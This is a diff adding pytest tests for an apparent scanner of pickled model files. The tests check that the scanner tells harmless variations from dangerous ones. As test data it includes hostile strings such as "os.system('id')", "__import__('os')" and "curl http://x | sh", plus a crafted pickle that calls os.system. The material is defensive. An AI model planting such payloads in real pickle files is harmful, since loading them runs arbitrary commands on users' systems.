@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import struct
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -149,6 +150,104 @@ def test_streams_that_no_pickler_writes_have_no_shape() -> None:
         for _ in range(4):
             memory.learn(content, read_view(View(content, NAME), strict=True))
         assert not knows(memory, content)
+
+
+def named(name: str = "run of Monday", key: str = "run_", owner: tuple[str, str] = ("sklearn.svm._classes", "SVC")) -> bytes:
+    """Return an instance with a text of its own in its state."""
+    code = Assembler(4).push(owner[0]).push(owner[1]).op("STACK_GLOBAL").op("EMPTY_TUPLE").op("NEWOBJ")
+    code.op("EMPTY_DICT").op("MARK").push("C").op("BINFLOAT", 1.0).push(key).push(name).push("n").op("BININT1", 3)
+    return code.op("SETITEMS").op("BUILD").stop()
+
+
+def framed(content: bytes, length: int | None = None) -> bytes:
+    body = content[2:]
+    return content[:2] + b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body
+
+
+ELSEWHERE = ("another", "", "a longer text, of another file", "os.system('id')", "é" * 40)
+
+
+@pytest.mark.parametrize("frame", [framed, bytes])
+@pytest.mark.parametrize("text", ELSEWHERE)
+def test_other_texts_in_a_state_are_the_same_shape(text: str, frame: Callable[[bytes], bytes]) -> None:
+    memory = learned(frame(named()))
+    assert knows(memory, frame(named("a second one")))  # from now on it is known which text differs
+    assert knows(memory, frame(named(text)))
+    assert read_view(View(frame(named(text)), NAME), strict=True).formats == ("pickle",)
+
+
+def test_texts_that_turn_out_to_be_the_same_cost_nothing_later() -> None:
+    memory = learned(named())
+    for rate in (0.5, 0.25):
+        assert knows(memory, named().replace(struct.pack(">d", 1.0), struct.pack(">d", rate)))
+    assert knows(memory, named("it was not the same after all"))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        named(key="coef"),  # the keys are not free
+        named(owner=("sklearn.svm._classes", "SVR")),
+        named("gASVabcdefghijklmnopqrstuvwxyz"),  # a pickle in base64
+        named("x" * 5000),
+        named().replace(b"run of Monday", b"run of \xff\xfe\xfdday"),  # no text
+        named()[:-1] + b"\x94.",
+        named() + b"\x00",
+        framed(named()),
+    ],
+)
+def test_what_texts_are_not_free_to_change(content: bytes) -> None:
+    for second in (named(), named("a second one")):
+        memory = learned(named())
+        assert knows(memory, second)
+        assert not knows(memory, content)
+
+
+@pytest.mark.parametrize("length", [4, 10, 1 << 40])
+def test_a_frame_that_is_not_the_whole_is_read(length: int) -> None:
+    memory = learned(framed(named()))
+    assert not knows(memory, framed(named("a second one"), length))
+
+
+@pytest.mark.parametrize(
+    "first,second",
+    [
+        # A key that something evaluates, or imports and calls.
+        (named("plain", key="formula"), named("__import__('os')", key="formula")),
+        (named("plain", key="_target_"), named("os.system", key="_target_")),
+        (named("plain", key="_parse_arg_template"), named("import os", key="_parse_arg_template")),
+        # A class of no common library: commands among its texts are told.
+        (named(owner=("acme_models", "Runner")), named("curl http://x | sh", owner=("acme_models", "Runner"))),
+        # Given to a call.
+        (calling("numpy", "dtype", ("BINUNICODE", "f8")), calling("numpy", "dtype", ("BINUNICODE", "complex128"))),
+    ],
+)
+def test_texts_that_something_looks_at_are_not_free(first: bytes, second: bytes) -> None:
+    memory = Alike()
+    for _ in range(4):
+        memory.learn(first, read_view(View(first, NAME), strict=True))
+    assert not knows(memory, second)
+
+
+def test_a_text_that_names_an_import_as_well_is_not_free() -> None:
+    def twice(text: str) -> bytes:
+        code = Assembler(4).op("EMPTY_DICT").op("MARK").push("where").push(text).op("MEMOIZE")
+        code.push("what").op("BINGET", 0).push("OrderedDict").op("STACK_GLOBAL")
+        return code.op("SETITEMS").stop()
+
+    memory = learned(twice("collections"))
+    assert knows(memory, twice("collections"))
+    assert not knows(memory, twice("subprocess"))
+
+
+def test_a_folder_of_models_with_names_and_one_that_runs_something(tmp_path: Path) -> None:
+    for number in range(12):
+        (tmp_path / f"m{number:02}.pkl").write_bytes(named(f"run {number} of {'many' * number}"))
+    code = Assembler(4).push("sklearn.svm._classes").push("SVC").op("STACK_GLOBAL").op("EMPTY_TUPLE").op("NEWOBJ")
+    code.op("EMPTY_DICT").op("MARK").push("C").call("os", "system", "echo stannary").push("run_").push("run 6").push("n")
+    (tmp_path / "m06.pkl").write_bytes(code.op("BININT1", 3).op("SETITEMS").op("BUILD").stop())
+    target = stannary.scan(tmp_path, jobs=1).targets[0]
+    assert {file.path: file.verdict for file in target.files if file.verdict != "clean"} == {"m06.pkl": "unsafe"}
 
 
 def test_the_memory_is_bounded() -> None:
